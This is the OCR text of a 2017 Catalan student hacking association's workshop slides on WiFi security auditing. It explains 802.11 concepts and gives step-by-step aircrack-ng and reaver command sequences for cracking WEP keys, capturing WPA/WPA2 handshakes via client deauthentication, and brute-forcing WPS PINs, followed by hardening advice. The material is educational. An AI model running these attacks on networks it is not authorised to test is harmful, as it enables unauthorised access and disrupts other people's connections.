Auditoria de Xarxes WiFi

Hacking Lliure

Dimecres 26 d'Abril de 2017

Facultat de Matemàtiques i Informàtica

Universitat de Barcelona


Hacking Lliure

  • Associació de Hacking Ètic i Seguretat Informàtica
  • Gestada a les acaballes del 2016 per estudiants de la facultat
  • Constituïda formalment a principis del 2017
    • UB
    • Catalunya
  • Presentació oficial: 27/02/17Me (Arnau Gàmez i Montolio)

  • Maths + CS @ UB
  • PhD research program assistant @ Facultat de Física UB
  • Participant de:
    • No cON Name '15
    • RootedCON '16, '17
    • r2con '16
    • PyConES '16
  • Cofundador & President  Hacking LliureHacking into anyone’s WiFi without permission is considered an illegal act. We are performing this tutorial for the sake of penetration testing, hacking to become more secure, and are using our own test networks and routers


  • Preliminary

  • Basic concepts

  • Attacking WEP

  • Attacking WPA(2)

  • Attacking WPS

  • More attack vectors

  •Security Measures



Introduceoffensive security methodologies oriented to Wireless Networks.


Focused on a domestic sphere or little infrastructures

Main tools used


  • OS: WifiSlax64-1.0-final
  • Suite aircrack-ng• reaver



  • Antenna: Alfa AWUS036H

Basic Concepts

IEEE 802.11

Set of standards developed by the IEEE working group 11 (Wireless LAN)

  • 802.11 – The original WLAN standard
  • 802.11a – Up to 54 Mbit/s on 5 GHz
  • 802.11b – 5.5 Mbit/s and 11 Mbit/s on 2.4 GHz
  • 802.11g – Up to 54 Mbit/s on 2.4 GHz. Backward compatible with 802.11b
  • 802.11i – Provides enhanced security
  • 802.11n – Provides higher throughput with Multiple Input/Multiple Output (MIMO)

IEEE 802.11 main standards

IEEE 802.11g/b wireless nodes communicate with each other using radio frequency signals in the ISM (Industrial, Scientific, and Medical) band between 2.4 GHz and 2.5 GHz

IEEE 802.11 sounds weird

Just call it WiFi

Note: It is not exactly the same, but it is the same "almost everywhere"

  • WLAN (Wireless Local Area Network)
  • MAC (Media Access Control) address: unique identifier assigned to network interfaces for communications at the data link layer of a network segment
  • BSSID (Basic Service Set Identification): MAC address of the access point
  • ESSID (Extended Service Set Identification): Wireless network name
  • CHANNEL: Determines the frequency where Wireless Network operates

Wireless Operating Modes

  • Infrastructure: the Access Point (AP) sets the SSID

  • Ad-hoc: the Station (STA) that is creating the network sets the SSIDWe will focus on Infrastucture Operating Mode

Monitor Mode

Monitor mode is not really a wireless mode but it is especially important in attacking wireless networks.

In a nutshell, Monitor mode allows a wireless card to “monitor” the packets that are received without any filtering.

When using some wireless drivers, this mode allows for the sending of raw 802.11 frames

Suite aircrack-ng• airmon-ng: This script can be used to enable monitor mode on wireless interfaces. It may also be used to go back from monitor mode to managed mode.
  • airodump-ng: Used for packet capturing of raw 802.11 frames
  • aireplay-ng: Used to inject frames.
  • aircrack-ng: It is an 802.11 WEP and WPA/WPA2-PSK key cracking program

Attacking WEP

(Wired Equivalent Privacy)



  • IV (Initialization Vector): Fixed-size input to a cryptographic primitive that is typically required to berandom or pseudorandom
  • ARP (Address Resolution Protocol): A TCP/IP protocol used to convert an IP address into a physical address, such as an Ethernet address. A host wishing to obtain a physical address broadcasts an ARP request onto the TCP/IP network. The host on the network that has the address in the request then replies with its physical hardware address

Attack workflow

  1. Start the wireless interface in monitor mode

  2. Use airodump-ng to locate our target AP

  3. Test the injection capability of the wireless device to the AP

  4. Start airodump-ng on AP channel with a bssid filter to collect the new unique IVs5. Use aireplay-ng to do a fake authentication with the access point

  6. Start aireplay-ng in ARP request replay mode toinject packets

  7. Run aircrack-ng to crack key using the IVs collected


  1. airmon-ng start wlan0

  2. airodump-ng mon0 --encrypt WEP

  3. aireplay-ng mon0 -9 -e [ESSID] -a [BSSID]

  4. airodump-ng mon0 -c [CHANNEL] --bssid [BSSID] -w WEP_TEST_CAP

  5. aireplay-ng mon0 -1 0 -e [ESSID] -a [BSSID] -h [MAC]

  6. aireplay-ng mon0 -3 -b [BSSID] -h [MAC]

  7. aircrack-ng WEP_TEST_CAP-01.cap

*We assume the wireless adapter is wlan0and it is activated as mon0 in monitor mode


  • Limited number of possible passwords

    • Most WLAN_XX and JAZZTEL_XX

Attacking WPA(2)

(Wi-Fi Protected Access)



  • Bruteforce
  • (4-way) HandShake
  • Wordlist

Attack workflow

  1. Start the wireless interface in monitor mode

  2. Use airodump-ng to locate our target AP

  3. Start airodump-ng on AP channel with filter for bssid to collect authentication handshake

  4. Use aireplay-ng to deauthenticate the wireless client

  5. Run aircrack-ng to crack the pre-shared key using the authentication handshake


  1. airmon-ng start wlan0

  2. airodump-ng mon0 --encrypt WPA

  3. airodump-ng mon0 -c [CHANNEL] --bssid [BSSID] -w WEP_TEST_CAP

  4. aireplay-ng mon0 -0 [N_DEAUTH_PACKETS] -a [BSSID] -c[CLIENT_MAC]

  5. aircrack-ng WPA_TEST_CAP-01.cap -w [WORDLIST]

*We assume the wireless adapter is wlan0 and it is activated as mon0 in monitor mode


Available in all cases

  • Use GPU for bruteforcing
  • Use Rainbow Tables (precomputed tables for reversing cryptographic hash functions)

Only available in some cases

  • Directly computable password
    • Examples: some of the first WLAN_XXXX and JAZZTEL_XXXX
  • Limited number of possible passwords (by range or by charset)• Examples: some Orange-XXXX

Attacking WPS

(Wi-Fi Protected Setup)


Attack workflow1. Start the wireless interfacein monitor mode

  2. Use wash to locate our target AP (it will only appear if WPS is enabled)

  3. Use reaver to crack WPS pin and recover PSK


  1. airmon-ng start wlan0

  2. wash -i mon0 -C

  3. reaver -i mon0 --bssid [BSSID] -c [CHANNEL] -vv

*We assume the wireless adapter is wlan0 and it is activated as mon0 in monitor mode


  • Generic/Computable PINs• Pixie Dust Attack (Offline PIN cracking)

More attack vectors

  • Social Engineering
  • Evil Twin
  • MITMSecurity Measures

  • Change default credentials (router & AP)
  • Use WPA2-PSK (AES) encryption protocol
  • Use strong passwords
  • Disable WPS

Almost uselessmethods

  • MAC filtering
  • (E)SSID hiding

"You can'tdownload a patch for humanstupidity"

- Kevin Mitnick